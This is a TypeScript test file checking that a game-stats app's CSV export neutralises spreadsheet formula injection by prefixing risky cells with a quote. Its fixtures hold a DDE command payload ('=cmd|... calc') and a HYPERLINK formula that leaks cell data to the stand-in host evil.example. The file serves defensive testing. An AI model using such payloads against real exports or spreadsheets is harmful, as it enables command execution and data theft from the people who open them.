/**
 * GET /api/forecast-accuracy.csv writes its cells with the one CSV writer (docs/http-api.md#csv):
 * ids and names that would start a spreadsheet formula come out as text, numbers as numbers.
 */
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { TEST_BACKEND } from '../support/test-store.ts';
import { statsAppOver } from '../snapshot/stats-app.ts';

const EVENT = "=cmd|' /C calc'!A0";
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
/** Player ids for the prefixes a spreadsheet reads as a formula's start (ids are trimmed). */
const PLAYERS = [HYPERLINK, '+p', '-p', '@p'];
/** Faction ids, a tab and a CR among them (not trimmed). */
const FACTIONS = ['=1+1', '@B', '\tT', '\rR'];

const side = (player: string, faction: string, score: number, result: string) => ({
  player,
  faction,
  score,
  result,
});

const DOCUMENT = {
  format: 'muster/v1',
  systems: [{ id: 'tt', name: 'Test Game', score: { min: 0, max: 20, total: 20 } }],
  factions: FACTIONS.map((id, i) => ({ id, system: 'tt', name: `Faction ${i}` })),
  players: PLAYERS.map((id) => ({ id })),
  events: [
    {
      id: EVENT,
      system: 'tt',
      name: 'Formula Open',
      start: '2025-03-01',
      participants: 6,
      games: [0, 1, 2, 3].map((i) => ({
        id: `g${i}`,
        sides: [
          side(PLAYERS[i], FACTIONS[(2 * i) % 4], 15, 'win'),
          side(PLAYERS[(i + 1) % 4], FACTIONS[(2 * i + 1) % 4], 5, 'loss'),
        ],
      })),
    },
  ],
};

describe(`forecast-accuracy.csv neutralises formulas (${TEST_BACKEND})`, () => {
  const stats = statsAppOver(DOCUMENT);

  it('starts no cell with =, +, -, @, tab or CR, and keeps the scores as numbers', async () => {
    const res = await stats.app.inject({ method: 'GET', url: '/api/forecast-accuracy.csv' });
    assert.equal(res.statusCode, 200, res.body.slice(0, 300));
    const body = res.body;
    assert.ok(body.endsWith('\r\n'));
    const records = body.slice(0, -2).split('\r\n');
    assert.equal(records[0].split(',')[0], 'gameId');
    assert.ok(records.length > 1, body);
    // Every formula-like text cell is written with a leading quote; the CR and tab ones quoted.
    assert.ok(body.includes(`g0,'=cmd|' /C calc'!A0,2025-03-01,`), body);
    assert.ok(body.includes(`'=1+1,'@B,`), body);
    assert.ok(body.includes(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click me"")"`), body);
    for (const id of ["'+p", "'-p", "'@p", `"'\tT","'\rR"`]) {
      assert.ok(body.includes(id), `${JSON.stringify(id)} in ${JSON.stringify(body)}`);
    }
    // No record (outside a quoted field) has a cell starting a formula.
    const cells = body.replace(/"(?:[^"]|"")*"/g, '"…"').split(/,|\r\n/);
    const live = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^-?\d/.test(c));
    assert.deepEqual(live, []);
    // expected1 and outcome1 are plain numbers (RFC 4180 fields a spreadsheet reads as numbers).
    for (const record of records.slice(1)) {
      const [expected1, outcome1] = record.split(',').slice(-2);
      assert.match(expected1, /^-?\d+(?:\.\d+)?(?:e-?\d+)?$/, record);
      assert.match(outcome1, /^(?:0|1|0\.\d+)$/, record);
    }
  });
});
